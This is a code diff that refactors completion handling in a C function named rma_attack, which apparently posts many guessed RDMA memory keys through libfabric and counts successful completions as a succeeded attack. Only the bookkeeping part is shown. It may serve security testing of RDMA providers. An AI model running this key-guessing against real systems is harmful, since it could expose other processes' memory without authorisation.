@@ -132,6 +132,22 @@ static void setup(const char *prov, const unsigned char *addr, size_t alen) {
   desc = fi_mr_desc(mr);
 }
 
+/* Reap at most one completion of rma_attack's operations: a success marks
+ * the operation's state 3 (it worked: the attack succeeded). */
+static void collect(struct fi_context2 *ctx, int *state, int *done, int *worked) {
+  struct fi_cq_entry e;
+  ssize_t r = fi_cq_read(cq, &e, 1);
+  if (r == 1) {
+    state[(struct fi_context2 *)e.op_context - ctx] = 3;
+    (*done)++, (*worked)++;
+  } else if (r == -FI_EAVAIL) {
+    struct fi_cq_err_entry err;
+    memset(&err, 0, sizeof err);
+    fi_cq_readerr(cq, &err, 0);
+    (*done)++;
+  }
+}
+
 /* Every guess is posted at once (as many as the provider takes), then the
  * completions are collected until all came or 5 s passed: a provider may
  * answer a bad key with an error, or drop the request silently. */
@@ -172,33 +188,13 @@ static int rma_attack(uint64_t seg_base, uint64_t seg_size) {
       /* Queue full: collect completions (below) and try again, unless time is up. */
       clock_gettime(CLOCK_MONOTONIC, &t);
       if (t.tv_sec - t0.tv_sec > 5) break;
-      struct fi_cq_entry e;
-      ssize_t r = fi_cq_read(cq, &e, 1);
-      if (r == 1) {
-        int j = (int)((struct fi_context2 *)e.op_context - ctx);
-        state[j] = 3, done++, worked++;
-      } else if (r == -FI_EAVAIL) {
-        struct fi_cq_err_entry err;
-        memset(&err, 0, sizeof err);
-        fi_cq_readerr(cq, &err, 0);
-        done++;
-      }
+      collect(ctx, state, &done, &worked);
     }
   }
   while (done < posted) {
     clock_gettime(CLOCK_MONOTONIC, &t);
     if (t.tv_sec - t0.tv_sec > 5) break;
-    struct fi_cq_entry e;
-    ssize_t r = fi_cq_read(cq, &e, 1);
-    if (r == 1) {
-      int j = (int)((struct fi_context2 *)e.op_context - ctx);
-      state[j] = 3, done++, worked++;
-    } else if (r == -FI_EAVAIL) {
-      struct fi_cq_err_entry err;
-      memset(&err, 0, sizeof err);
-      fi_cq_readerr(cq, &err, 0);
-      done++;
-    }
+    collect(ctx, state, &done, &worked);
   }
   for (int i = 0; i < NOPS; i++)
     if (state[i] == 3)
